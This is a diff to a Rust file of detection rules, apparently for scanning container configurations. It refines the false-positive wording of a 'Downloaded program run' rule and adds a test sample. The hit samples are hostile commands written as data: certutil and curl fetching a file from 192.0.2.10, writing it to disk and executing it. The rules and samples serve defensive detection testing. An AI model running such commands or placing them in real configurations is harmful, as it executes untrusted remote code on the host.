@@ -216,7 +216,8 @@ pub(super) static RULES: &[Rule] = &[
         title: "Downloaded program run",
         message: "downloads a program and runs it",
         meaning: "A file is fetched, made executable and run: what it is depends on the server.",
-        false_positives: "Fetching a released tool, better done with an image; a checksum in between makes it less.",
+        false_positives: "Fetching a released tool, better done with an image. Less where a checksum that stands in the script \
+                          names the file, or where it is one file of sources that are fetched whole and built.",
         confirm: &[
             Step::Object(
                 "The URL and the file that is made executable. A path under /tmp, /dev/shm or a name with \
@@ -360,6 +361,10 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [cmd, /c, 'certutil -urlcache -split -f http://192.0.2.10/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'x() { cat; }; curl -s http://192.0.2.10/s | x > /tmp/h; sh /tmp/h']}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
